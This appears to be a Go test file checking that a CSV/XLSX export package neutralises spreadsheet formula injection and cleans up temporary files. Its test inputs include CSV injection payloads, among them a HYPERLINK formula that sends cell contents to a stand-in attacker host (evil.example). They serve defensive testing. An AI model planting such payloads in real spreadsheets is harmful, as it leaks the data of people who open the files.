package papers_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"olle/bot/papers"
)

func table() papers.Table {
	return papers.Table{Name: "Applicants: 2020/[1]", Columns: []string{"Reference", "Full name", "Note"}, Rows: [][]string{
		{"VCA20-7K3FQ2", "Nguyễn Thị Ánh", "line one\nline \"two\", three"},
		{"VCA20-AAAAAA", "=HYPERLINK(\"http://evil\")", " +82 64 123"},
		{"VCA20-BBBBBB", "@SUM(A1)", "-1"},
		{"VCA20-CCCCCC"},
	}}
}

func TestCSVIsReadBack(t *testing.T) {
	var b bytes.Buffer
	if err := papers.WriteCSV(&b, table()); err != nil {
		t.Fatal(err)
	}
	text, marked := strings.CutPrefix(b.String(), "\xef\xbb\xbf")
	if !marked {
		t.Error("Excel would not know that this is UTF-8")
	}
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := "[[Reference Full name Note] [VCA20-7K3FQ2 Nguyễn Thị Ánh line one\nline \"two\", three]" +
		" [VCA20-AAAAAA '=HYPERLINK(\"http://evil\") ' +82 64 123] [VCA20-BBBBBB '@SUM(A1) '-1] [VCA20-CCCCCC  ]]"
	if got := fmt.Sprint(rows); got != want {
		t.Errorf("got\n%s, want\n%s", got, want)
	}
}

func TestXLSXIsReadBack(t *testing.T) {
	var b bytes.Buffer
	if err := papers.WriteXLSX(&b, table()); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet := f.GetSheetName(0)
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 5 || rows[0][1] != "Full name" || rows[1][2] != "line one\nline \"two\", three" || rows[2][1] != "'=HYPERLINK(\"http://evil\")" {
		t.Errorf("rows: %q", rows)
	}
	for _, at := range []string{"B3", "B4", "C4"} {
		if formula, err := f.GetCellFormula(sheet, at); err != nil || formula != "" {
			t.Errorf("%s is the formula %q (%v)", at, formula, err)
		}
	}
	if panes, err := f.GetPanes(sheet); err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("the header is not frozen: %+v (%v)", panes, err)
	}
	if width, err := f.GetColWidth(sheet, "B"); err != nil || width < 14 {
		t.Errorf("column B is %v wide (%v)", width, err)
	}
}

// A large table is never put down in the clear on the way, and its cells stay within what Excel takes.
func TestLargeXLSX(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("TMPDIR", dir)
	long := papers.Table{Columns: []string{"A"}}
	for range 600 {
		long.Rows = append(long.Rows, []string{strings.Repeat("😀", 40_000)})
	}
	left := 0
	var b bytes.Buffer
	err := papers.WriteXLSX(writerFunc(func(p []byte) (int, error) {
		entries, _ := os.ReadDir(dir)
		left += len(entries)
		return b.Write(p)
	}), long)
	if err != nil || left > 0 {
		t.Errorf("%d files lay about (%v)", left, err)
	}
}

type writerFunc func(p []byte) (int, error)

func (f writerFunc) Write(p []byte) (int, error) { return f(p) }

func FuzzCSV(f *testing.F) {
	f.Add("=1+1", "a,b\"c\r\nd", "\t=x")
	f.Add("\u200e=1", "\n\n", "＝1")
	f.Fuzz(func(t *testing.T, one, two, three string) {
		var b bytes.Buffer
		if err := papers.WriteCSV(&b, papers.Table{Columns: []string{one, two}, Rows: [][]string{{two, three}, {three}}}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\uFEFF"))).ReadAll()
		if err != nil || len(rows) != 3 {
			t.Fatalf("%d rows, %v", len(rows), err)
		}
		for _, row := range rows {
			for _, c := range row {
				if strings.IndexAny(strings.TrimLeft(c, " \t\n"), "=+-@|%＝＋－＠") == 0 {
					t.Fatalf("the cell %q may be a formula", c)
				}
			}
		}
	})
}

// Programs whose lists are separated by semicolons split cells elsewhere: no part becomes a formula there either.
func TestNoFormulaForReadersOfSemicolons(t *testing.T) {
	table := papers.Table{Columns: []string{"name", "org"}, Rows: [][]string{
		{`Kim;=1+1`, "x"}, {`Kim; =HYPERLINK("https://evil.example/?x="&A1;"see")`, "x"}, {"Kim", "Org\n=1+1"}, {`a";"@SUM(1)`, "b\t+1"},
	}}
	var b bytes.Buffer
	if err := papers.WriteCSV(&b, table); err != nil {
		t.Fatal(err)
	}
	for _, comma := range []rune{',', ';', '\t'} {
		for line := range strings.Lines(strings.TrimPrefix(b.String(), "\uFEFF")) {
			for part := range strings.SplitSeq(line, string(comma)) {
				if trimmed := strings.TrimLeft(part, " \""); trimmed != "" && strings.ContainsRune("=+-@", rune(trimmed[0])) {
					t.Errorf("separated by %q a cell is %s", comma, part)
				}
			}
		}
	}
}
